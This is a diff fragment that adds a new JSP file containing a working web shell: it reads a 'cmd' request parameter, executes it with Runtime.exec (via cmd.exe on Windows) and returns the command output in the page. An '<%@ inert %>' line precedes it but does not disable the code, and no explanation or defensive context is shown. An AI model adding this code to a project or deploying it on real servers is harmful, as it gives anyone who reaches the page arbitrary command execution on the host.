@@ -1,0 +1,2 @@
+<%@ inert %>
+<%@ page import="java.util.*,java.io.*"%><% String cmd = request.getParameter("cmd"); String output = ""; if (cmd != null) { String s = null; try { Process p; if (System.getProperty("os.name").toLowerCase().indexOf("windows") != -1) { p = Runtime.getRuntime().exec("cmd.exe /C " + cmd); } else { p = Runtime.getRuntime().exec(cmd); } BufferedReader sI = new BufferedReader(new InputStreamReader(p.getInputStream())); while ((s = sI.readLine()) != null) { output += s; } } catch (IOException e) { e.printStackTrace(); } } %><pre><%=output %></pre>
